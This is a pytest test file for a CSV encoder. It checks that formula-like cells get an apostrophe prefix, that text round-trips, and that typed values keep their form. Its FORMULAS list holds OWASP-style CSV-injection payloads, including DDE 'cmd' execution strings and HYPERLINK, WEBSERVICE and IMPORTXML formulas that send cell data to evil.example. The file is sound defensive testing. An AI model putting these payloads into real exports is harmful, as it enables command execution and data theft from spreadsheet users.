"""CSV: rows that every reader reads back, and cells that no spreadsheet computes."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import Enum, IntEnum
from fractions import Fraction
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from headrace.wire.csv import cell, encode

#: What the people who break into spreadsheets write (OWASP, CSV injection), and spellings of it.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=1+1";=1+1',
    "=1+2'\" ;,=1+2",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "=",
    "-",
    "+49 30 1234567",
    "-5",
]

BEGINNINGS = tuple("=+-@\t\r\n\0＝＋－＠")  # noqa: RUF001


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_never_begins_like_a_formula(formula: str) -> None:
    """Wherever it stands, it has an apostrophe in front, and nothing else has changed."""
    assert read(encode([[formula, "a", formula], [formula]])) == [["'" + formula, "a", "'" + formula], ["'" + formula]]


@given(st.lists(st.lists(st.text(), min_size=1), max_size=5))
def test_any_text_is_read_back_and_is_no_formula(rows: list[list[str]]) -> None:
    """Quotes, commas and line ends in a cell stay in it; no cell begins like a formula."""
    found = read(encode(rows))

    assert [[text.removeprefix("'") for text in row] for row in found] == [
        [text.removeprefix("'") for text in row] for row in rows
    ]
    assert not any(text.startswith(BEGINNINGS) for row in found for text in row)


class Colour(Enum):
    RED = "=red"


class Level(IntEnum):
    LOW = -1


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (1e300, "1e+300"),
        (0.1 + 0.2, "0.30000000000000004"),
        (10**30, "1" + "0" * 30),
        (Decimal("-1.50"), "-1.50"),
        (Fraction(-1, 3), "-1/3"),
        (Level.LOW, "-1"),
        (Colour.RED, "'=red"),
        (True, "true"),
        (None, ""),
        (date(2026, 1, 2), "2026-01-02"),
        (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (b"=1", "'=1"),
        ({"a": [1, "="]}, '{"a":[1,"="]}'),
        ([1, 2], "[1,2]"),
    ],
)
def test_typed_values_keep_their_form(value: Any, text: str) -> None:
    """A negative number is no formula: its type says so."""
    assert read(encode([[value, "x"]])) == [[text, "x"]]


def test_subclass_of_text_is_text() -> None:
    """A string of another class is looked at like any."""

    class Name(str):
        __slots__ = ()

    assert cell(Name("=1")) == "'=1"


def test_rows_end_in_crlf() -> None:
    """As RFC 4180 says; and a row of one empty cell is no blank line, which some readers skip."""
    assert encode([["a", "b"], [""], ["c"]]) == b'a,b\r\n""\r\nc\r\n'


def test_half_a_surrogate_pair_does_not_stop_a_file() -> None:
    """It cannot be written in UTF-8."""
    assert encode([["a\ud800b"]]) == b"a?b\r\n"


def test_value_without_form_is_refused() -> None:
    """It would be the repr of an object, which says nothing to who reads it."""
    with pytest.raises(TypeError):
        encode([[object()]])
